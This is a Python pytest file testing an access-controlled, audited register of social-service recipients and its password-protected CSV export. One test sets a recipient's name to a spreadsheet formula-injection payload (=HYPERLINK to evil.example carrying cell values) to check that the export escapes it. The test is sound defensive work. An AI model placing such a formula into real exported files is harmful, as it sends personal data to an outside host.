"""SIVA's register of recipients (Cabinet Regulation No. 344 §2.2): SIVA only, exact search
through the blind indexes, every look audited, a constant number of queries, and its export
through the export framework."""

from __future__ import annotations

import csv
import io
import re
from typing import Any

import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from atbalsts.access.policy import ExportKind
from atbalsts.accounts.models import Organisation, User
from atbalsts.audit.models import AuditEvent
from atbalsts.exports.models import ExportJob
from atbalsts.exports.recipients import register_columns, shows_address
from tests.exports.conftest import give, make_recipients, open_archive

pytestmark = pytest.mark.django_db

URL = reverse("exports:recipient_register")


def _rows(content: bytes) -> int:
    return len(re.findall(rb"<tr>\s*<td>", content))


def test_siva_sees_the_recipients_with_their_course_dates(
    client_of: Any, recipients_of: Any
) -> None:
    recipients_of(2)
    recipients_of(1, with_course=False, first_name="Maija")

    response = client_of("agency_coordinator").get(URL)

    text = response.content.decode()
    assert response.status_code == 200
    assert _rows(response.content) == 3
    assert "Anna0" in text
    assert "150590-20000" in text
    assert "<td>05.10.2026</td>" in text


def test_the_register_withholds_the_address_the_policy_withholds_from_siva(
    client_of: Any, recipients_of: Any
) -> None:
    """SIVA's relation to a submitted case grants identity, not contact information."""
    recipients_of(2)

    response = client_of("agency_coordinator").get(URL)

    text = response.content.decode()
    assert response.status_code == 200
    assert "Anna0" in text
    assert "Tērbatas iela" not in text
    assert ">Adrese</th>" not in text
    assert '<th scope="col">Personas kods</th>' in text


def test_the_register_columns_keep_the_address_only_when_the_policy_grants_it() -> None:
    full = ("Vārds", "Uzvārds", "Personas kods", "Dzimšanas datums", "Adrese", "Sniedzējs")

    assert register_columns(full, with_address=True) == full
    assert register_columns(full, with_address=False) == (
        "Vārds",
        "Uzvārds",
        "Personas kods",
        "Dzimšanas datums",
        "Sniedzējs",
    )
    assert not shows_address(role="agency_coordinator")
    assert shows_address(role="provider_case_manager") is False


@pytest.mark.parametrize(
    "persona",
    [
        "social_worker_a",
        "provider_case_manager",
        "provider_head",
        "ministry_analyst",
        "dpo",
        "system_admin",
        "police_member",
    ],
)
def test_nobody_else_sees_the_register(client_of: Any, recipients_of: Any, persona: str) -> None:
    recipients_of(1)

    response = client_of(persona).get(URL)

    assert response.status_code == 404
    assert b"Anna0" not in response.content


def test_another_agency_sees_none_of_siva_s_recipients(
    client_of: Any,
    organisations: dict[str, Organisation],
    personas: dict[str, User],
    persona_maker: Any,
) -> None:
    other = Organisation.objects.create(code="siva-2", name="Cita aģentūra", type="agency")
    make_recipients(
        1,
        siva=other,
        provider=organisations["drosa_maja"],
        author=personas["provider_case_manager"],
    )

    response = client_of("agency_coordinator").get(URL)

    assert _rows(response.content) == 0


def test_search_by_exact_name_and_personal_code(client_of: Any, recipients_of: Any) -> None:
    recipients_of(3)
    client = client_of("agency_coordinator")

    by_name = client.post(URL, {"full_name": "anna1 bērziņa"})
    by_code = client.post(URL, {"personal_code": "150590-20002"})
    partial = client.post(URL, {"full_name": "Anna"})

    assert _rows(by_name.content) == 1
    assert b"Anna1" in by_name.content
    assert _rows(by_code.content) == 1
    assert b"Anna2" in by_code.content
    assert _rows(partial.content) == 0


def test_course_filter(client_of: Any, recipients_of: Any) -> None:
    recipients_of(2)
    recipients_of(1, with_course=False, first_name="Maija")
    client = client_of("agency_coordinator")

    not_started = client.post(URL, {"course": "not_started"})
    running = client.post(URL, {"course": "running"})

    assert _rows(not_started.content) == 1
    assert b"Maija0" in not_started.content
    assert _rows(running.content) == 2


def test_every_look_is_audited_with_the_people_shown_but_not_the_terms(
    client_of: Any, recipients_of: Any, personas: dict[str, User]
) -> None:
    people = recipients_of(2)

    client_of("agency_coordinator").post(URL, {"personal_code": "150590-20001"})

    event = AuditEvent.objects.get(action="sensitive_read", object_type="recipient_register")
    assert event.actor == personas["agency_coordinator"]
    assert event.payload["results"] == [str(people[1].uuid)]
    assert event.payload["by"] == ["personal_code"]
    assert "150590-20001" not in str(event.payload)


# The register page, whatever the number of recipients: the session, the user with the
# organisation, the second factor (3); the count and the page of rows with their people,
# providers and course dates in one query (2); the audit append (savepoint, chain head,
# insert, release: 4); the actor's export permissions and the providers of the filter (2); the
# header's unread notifications (1).
REGISTER_QUERIES = 12


def _pg(count: int) -> int:
    # PostgreSQL adds the advisory lock that serialises appends to the audit chain.
    return count + (1 if connection.vendor == "postgresql" else 0)


@pytest.mark.parametrize("count", [10, 200])
def test_the_number_of_queries_does_not_grow_with_the_register(
    client_of: Any, recipients_of: Any, count: int
) -> None:
    recipients_of(count)
    client: Client = client_of("agency_coordinator")
    client.get(URL)

    with CaptureQueriesContext(connection) as queries:
        response = client.get(URL)

    assert response.status_code == 200
    assert _rows(response.content) == min(count, 50)
    assert len(queries) == _pg(REGISTER_QUERIES), [q["sql"] for q in queries]


def test_the_register_exports_through_the_framework(
    client_of: Any, recipients_of: Any, personas: dict[str, User]
) -> None:
    recipients_of(3)
    give(personas["agency_coordinator"], ExportKind.RECIPIENT_REGISTER, by=personas["system_admin"])
    client = client_of("agency_coordinator")

    page = client.get(URL).content.decode()
    client.post(
        reverse("exports:job_request"),
        {"kind": "recipient_register", "purpose": "Pārskats ministrijai par 2026. gadu"},
    )
    job = ExportJob.objects.get()
    detail = client.get(reverse("exports:job_detail", args=[job.uuid])).content.decode()
    passphrase = re.search(r'<output class="secret-once"[^>]*>([^<]+)</output>', detail)
    download = client.get(reverse("exports:job_download", args=[job.uuid]))

    assert f"{reverse('exports:job_request')}?kind=recipient_register" in page
    assert passphrase is not None
    with open_archive(b"".join(download.streaming_content)) as archive:
        archive.setpassword(passphrase.group(1).encode())
        rows = list(
            csv.reader(io.StringIO(archive.read("recipient-register.csv").decode("utf-8-sig")))
        )
    assert len(rows) == 2 + 3
    header = rows[1]
    assert "Adrese" not in header
    assert header[:4] == ["Vārds", "Uzvārds", "Personas kods", "Dzimšanas datums"]
    assert {row[header.index("Kursa sākums")] for row in rows[2:]} == {"2026-10-05"}
    assert all(len(row) == len(header) for row in rows[2:])
    assert not [cell for row in rows for cell in row if "Tērbatas" in cell]


def test_a_name_typed_as_a_formula_reaches_the_register_file_as_text(
    client_of: Any, recipients_of: Any, personas: dict[str, User]
) -> None:
    leak = '=HYPERLINK("http://evil.example/?leak="&C4&D4,"Anna")'
    recipients_of(1, first_name=leak)
    give(personas["agency_coordinator"], ExportKind.RECIPIENT_REGISTER, by=personas["system_admin"])
    client = client_of("agency_coordinator")
    client.post(
        reverse("exports:job_request"),
        {"kind": "recipient_register", "purpose": "Pārskats ministrijai par 2026. gadu"},
    )
    job = ExportJob.objects.get()
    detail = client.get(reverse("exports:job_detail", args=[job.uuid])).content.decode()
    passphrase = re.search(r'<output class="secret-once"[^>]*>([^<]+)</output>', detail)
    download = client.get(reverse("exports:job_download", args=[job.uuid]))

    assert passphrase is not None
    with open_archive(b"".join(download.streaming_content)) as archive:
        archive.setpassword(passphrase.group(1).encode())
        rows = list(
            csv.reader(io.StringIO(archive.read("recipient-register.csv").decode("utf-8-sig")))
        )
    cells = [cell for row in rows[2:] for cell in row]
    assert f"'{leak}0" in cells
    assert not [cell for cell in cells if cell.startswith("=")]


def test_the_menu_shows_the_register_to_siva_only(client_of: Any) -> None:
    siva_home = client_of("agency_coordinator").get(reverse("core:home")).content.decode()
    worker_home = client_of("social_worker_a").get(reverse("core:home")).content.decode()

    assert f'href="{URL}"' in siva_home
    assert f'href="{URL}"' not in worker_home
